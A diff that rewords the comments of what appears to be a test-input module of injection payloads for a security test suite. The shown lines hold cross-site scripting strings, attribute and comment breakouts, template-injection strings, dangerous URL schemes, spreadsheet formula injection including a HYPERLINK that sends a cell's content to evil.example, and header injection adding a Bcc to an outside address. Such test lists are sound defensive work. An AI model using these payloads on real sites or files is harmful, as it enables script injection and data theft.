@@ -1,13 +1,13 @@
 /**
- * What somebody may type so that it does something where others read it. Whatever runs sets `window.proved`; whatever
- * becomes an element of the page carries `data-prove`.
+ * Inputs that would do something where others read them. Those that run set `window.proved`; those that become an
+ * element carry `data-prove`.
  */
 const RUN = 'window.proved=1,alert(1)';
 const UP = 'parent.proved=1,parent.alert(1)';
 const SCRIPT = `<script data-prove>${RUN}</script>`;
 const IMAGE = `<img data-prove src=x onerror="${RUN}">`;
 
-/** Elements that run something, or lead somewhere. */
+/** Elements that run something or lead somewhere. */
 const ELEMENTS = [
   SCRIPT,
   `<ScRiPt data-prove>${RUN}</sCrIpT>`,
@@ -39,7 +39,7 @@ const ELEMENTS = [
   `<a data-prove href="javascript:${RUN}">x</a>`,
   `<template data-prove>${SCRIPT}</template>`,
 ];
-/** Out of an attribute, a text that is no HTML, or a comment. */
+/** Breaking out of an attribute, a text element, or a comment. */
 const BREAKOUTS = [
   `" autofocus onfocus="${RUN}" data-prove="`,
   `' autofocus onfocus='${RUN}' data-prove='`,
@@ -58,7 +58,7 @@ const BREAKOUTS = [
   `\\";${RUN};//`,
   `\u2028${RUN}\u2028`,
 ];
-/** What becomes HTML only when it is read, written or decoded once more. */
+/** Text that becomes HTML only when it is decoded once more. */
 export const TWICE: readonly string[] = [
   `<noscript><p title="</noscript>${IMAGE.replaceAll('"', "'")}"></noscript>`,
   `<svg></p><style><a id="</style>${IMAGE.replaceAll('"', "'")}">`,
@@ -74,7 +74,7 @@ export const TWICE: readonly string[] = [
   `{{constructor.constructor('${RUN}')()}}`,
   `\${${RUN}}#{${RUN}}<%= ${RUN} %>`,
 ];
-/** Where the text is an address. */
+/** For texts that become an address. */
 export const SCHEMES: readonly string[] = [
   `javascript:${RUN}`,
   `JaVaScRiPt:${RUN}`,
@@ -86,7 +86,7 @@ export const SCHEMES: readonly string[] = [
   'vbscript:msgbox(1)',
   `https://clinic.example/"onmouseover="${RUN}"data-prove="`,
 ];
-/** Where the text is a cell of a spreadsheet. */
+/** For texts that become a spreadsheet cell. */
 export const FORMULAS: readonly string[] = [
   '=1+1',
   '=HYPERLINK("http://evil.example/?x="&A1,"x")',
@@ -105,7 +105,7 @@ export const FORMULAS: readonly string[] = [
   '"=1+1',
   '";=1+1;"',
 ];
-/** Where the text becomes a header. */
+/** For texts that become a header. */
 const HEADERS = [
   'x\r\nBcc: evil@evil.example',
   'x\nBcc: evil@evil.example\n\n<h1>Evil</h1>',
